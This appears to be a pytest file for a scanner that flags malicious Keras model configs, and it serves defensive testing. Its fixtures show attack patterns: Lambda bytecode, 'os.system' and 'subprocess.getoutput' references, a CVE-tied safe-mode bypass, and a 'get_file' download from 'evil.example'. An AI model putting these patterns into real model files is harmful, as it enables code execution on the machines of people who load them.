"""Keras configs: files saved by Keras 3.15 (see data/keras/make_keras.py.txt) and malicious variants."""

from __future__ import annotations

import copy
import json
import random
import zipfile
from pathlib import Path
from typing import Any

import h5py
import pytest

from gate.formats import keras
from gate.formats.interface import BytesBlob, FileBlob

DATA = Path(__file__).parent / "data" / "keras"


def _config(name: str, member: str = "config.json") -> bytes:
    with zipfile.ZipFile(DATA / name) as archive:
        return archive.read(member)


def _checks(report: keras.Report) -> set[str]:
    return {f.check for f in report.findings}


@pytest.mark.parametrize("name", ["sequential.keras", "functional.keras"])
def test_benign_keras_archives_pass(name: str) -> None:
    report = keras.parse_config(_config(name))
    assert report.findings == []
    assert "Dense" in report.header["class_names"]
    assert keras.looks_like_config(_config(name))
    meta = keras.parse_config(_config(name, "metadata.json"), "metadata.json")
    assert meta.findings == [] and meta.header["keras_version"] == "3.15.1"


def test_lambda_layer_in_a_real_keras_archive() -> None:
    report = keras.parse_config(_config("lambda.keras"))
    [finding] = report.findings
    assert (finding.code, finding.check, finding.severity) == (
        "unsafe_layer",
        "keras.lambda_layer",
        "critical",
    )
    assert finding.member == "config.json"
    assert finding.data["function_type"] == "python bytecode (marshal)"


def test_benign_h5_passes_and_its_configs_are_found() -> None:
    with open(DATA / "sequential.h5", "rb") as fh:
        report = keras.parse(FileBlob(fh.fileno()))
    assert report.format == "hdf5" and report.findings == []
    assert report.header["configs"] == ["model_config", "training_config"]
    assert report.header["class_names"]["Adam"] == 1


def test_lambda_in_a_real_h5() -> None:
    data = (DATA / "lambda.h5").read_bytes()
    report = keras.parse(BytesBlob(data))
    [finding] = report.findings
    assert finding.check == "keras.lambda_layer"
    assert finding.offset is not None and data[finding.offset : finding.offset + 14] == b'{"class_name":'
    assert keras.looks_like(BytesBlob(data))


def test_superblock_after_a_user_block(tmp_path: Path) -> None:
    path = tmp_path / "ub.h5"
    with h5py.File(path, "w", userblock_size=1024) as f:
        f.attrs["model_config"] = _config("lambda.keras").decode()
    data = path.read_bytes()
    assert keras.find_superblock(BytesBlob(data)) == 1024
    assert _checks(keras.parse(BytesBlob(data))) == {"keras.lambda_layer"}


def _h5_with(tmp_path: Path, attr: str, config: Any, fixed: bool = False) -> bytes:
    path = tmp_path / "m.h5"
    text = json.dumps(config)
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs[attr] = text.encode() if fixed else text
        f.create_dataset("model_weights/dense/kernel", data=[[1.0, 2.0]])
    return path.read_bytes()


LEGACY_LAMBDA = {
    "class_name": "Sequential",
    "config": {
        "name": "sequential",
        "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "in"}},
            {
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7p", None, None],
                    "function_type": "lambda",
                    "module": "__main__",
                    "output_shape": None,
                    "arguments": {},
                },
            },
        ],
    },
}


@pytest.mark.parametrize("fixed", [False, True])
def test_legacy_tf_keras_lambda_in_h5(tmp_path: Path, fixed: bool) -> None:
    report = keras.parse(BytesBlob(_h5_with(tmp_path, "model_config", LEGACY_LAMBDA, fixed)))
    [finding] = report.findings
    assert finding.check == "keras.lambda_layer"
    assert finding.data["function_type"] == "python bytecode (marshal)"


def test_custom_loss_lambda_in_training_config(tmp_path: Path) -> None:
    training = {
        "loss": {
            "class_name": "__lambda__",
            "config": {"code": "4wEAAAAA", "defaults": None, "closure": None},
        },
        "optimizer_config": {"class_name": "Adam", "config": {"name": "adam"}},
    }
    report = keras.parse(BytesBlob(_h5_with(tmp_path, "training_config", training)))
    assert _checks(report) == {"keras.lambda_function"}


def _sequential_with(layer: dict[str, Any]) -> bytes:
    base = json.loads(_config("sequential.keras"))
    config = copy.deepcopy(base)
    config["config"]["layers"].insert(1, layer)
    return json.dumps(config).encode()


FOREIGN = {
    "module": "evil_pkg.layers",
    "class_name": "Backdoor",
    "config": {"name": "backdoor"},
    "registered_name": "evil_pkg>Backdoor",
}


@pytest.mark.parametrize(
    ("layer", "checks"),
    [
        (FOREIGN, {"keras.foreign_module", "keras.custom_object"}),
        (
            {"module": "os", "class_name": "system", "config": {}, "registered_name": None},
            {"keras.foreign_module"},
        ),
        (
            {
                "module": "keras.layers",
                "class_name": "TFOpLambda",
                "config": {"name": "t", "function": "io.write_file"},
            },
            {"keras.tf_op_lambda"},
        ),
        (
            {
                "module": "keras.layers",
                "class_name": "Dense",
                "config": {
                    "name": "d",
                    "units": 1,
                    "activation": {"class_name": "__lambda__", "config": {"code": "x"}},
                },
            },
            {"keras.lambda_function"},
        ),
        (  # CVE-2025-9906: the config itself switches safe_mode off while it loads
            {
                "module": "keras.layers",
                "class_name": "Dense",
                "config": {
                    "name": "d",
                    "units": 1,
                    "activation": {
                        "module": "keras.config",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                        "registered_name": "function",
                    },
                },
            },
            {"keras.safe_mode_bypass"},
        ),
        (  # CVE-2025-49655: torch.load(weights_only=False) of the config's module bytes
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "config": {"name": "torch_module_wrapper", "module": "UEsDBAAACAgAAAAAAAAAAAAAAAAAAAAAAAAQ"},
                "registered_name": "TorchModuleWrapper",
            },
            {"keras.torch_module_wrapper"},
        ),
        (  # CVE-2025-1550: a Lambda naming a module outside Keras
            {
                "module": "keras.layers",
                "class_name": "Dense",
                "config": {
                    "name": "d",
                    "activation": {"fn_module": "subprocess", "function": "getoutput"},
                },
            },
            {"keras.foreign_module"},
        ),
        (  # CVE-2025-8747: get_file called by the config with a URL to fetch
            {
                "module": "keras.layers",
                "class_name": "Dense",
                "config": {
                    "name": "d",
                    "activation": {
                        "module": "keras.utils",
                        "class_name": "function",
                        "config": "get_file",
                        "registered_name": "function",
                    },
                    "kernel_initializer": {"origin": "https://evil.example/payload.h5", "fname": "x"},
                },
            },
            {"keras.get_file_download", "keras.remote_reference"},
        ),
        (
            {
                "module": "keras.layers",
                "class_name": "TextVectorization",
                "config": {"name": "t", "vocabulary": "https://evil.example/vocab.txt"},
            },
            {"keras.remote_reference"},
        ),
        (
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {"name": "l", "function": "my_fn", "module": "m"},
            },
            {"keras.lambda_layer"},
        ),
        (
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {"name": "t", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
            },
            {"keras.external_model"},
        ),
        (
            {
                "module": "keras_hub.layers",
                "class_name": "SavedModelWrapper",
                "config": {"name": "w", "filepath": "../other/saved_model"},
            },
            {"keras.external_model"},
        ),
    ],
)
def test_malicious_layers(layer: dict[str, Any], checks: set[str]) -> None:
    report = keras.parse_config(_sequential_with(layer))
    assert _checks(report) == checks, [f.to_json() for f in report.findings]
    assert {f.code for f in report.findings} == {"unsafe_layer"}


@pytest.mark.parametrize(
    "layer",
    [
        {  # tf.keras writes its own module path
            "module": "tensorflow.keras.layers",
            "class_name": "Dense",
            "config": {"name": "d", "units": 2},
            "registered_name": None,
        },
        {  # get_file named, nothing to fetch
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"name": "d", "description": "weights come from keras.utils.get_file"},
        },
        {  # a plain-text mention of the switch is not a call
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {
                "name": "enable_unsafe_deserialization",
                "doc": "never call enable_unsafe_deserialization",
            },
        },
    ],
)
def test_benign_lookalikes_raise_nothing(layer: dict[str, Any]) -> None:
    report = keras.parse_config(_sequential_with(layer))
    assert report.findings == [], [f.to_json() for f in report.findings]


def test_keras_family_modules_are_trusted() -> None:
    for module in ("keras_hub.src.models.gemma", "keras_nlp.layers", "tf_keras.layers", "keras.src.layers"):
        layer = {
            "module": module,
            "class_name": "X",
            "config": {"name": "x"},
            "registered_name": "keras_hub>X",
        }
        assert keras.parse_config(_sequential_with(layer)).findings == []


@pytest.mark.parametrize(
    ("data", "check"),
    [
        (b'{"a": 1, "a": 2}', "keras.json_duplicate_key"),
        (b"[" * 200 + b"]" * 200, "keras.json_depth"),
        (b"\xff\xfe", "keras.json_utf8"),
        (b"{", "keras.json_syntax"),
    ],
)
def test_broken_configs(data: bytes, check: str) -> None:
    assert _checks(keras.parse_config(data)) == {check}


def test_random_mutations_never_raise(tmp_path: Path) -> None:
    rng = random.Random(5)
    bases = [(DATA / "lambda.h5").read_bytes(), _config("functional.keras")]
    for _ in range(300):
        data = bytearray(rng.choice(bases))
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.choice(b'{}[]":,\\x\x00')
        report = keras.parse(BytesBlob(bytes(data)))
        assert all(f.check != "keras.parser_error" for f in report.findings), report.findings
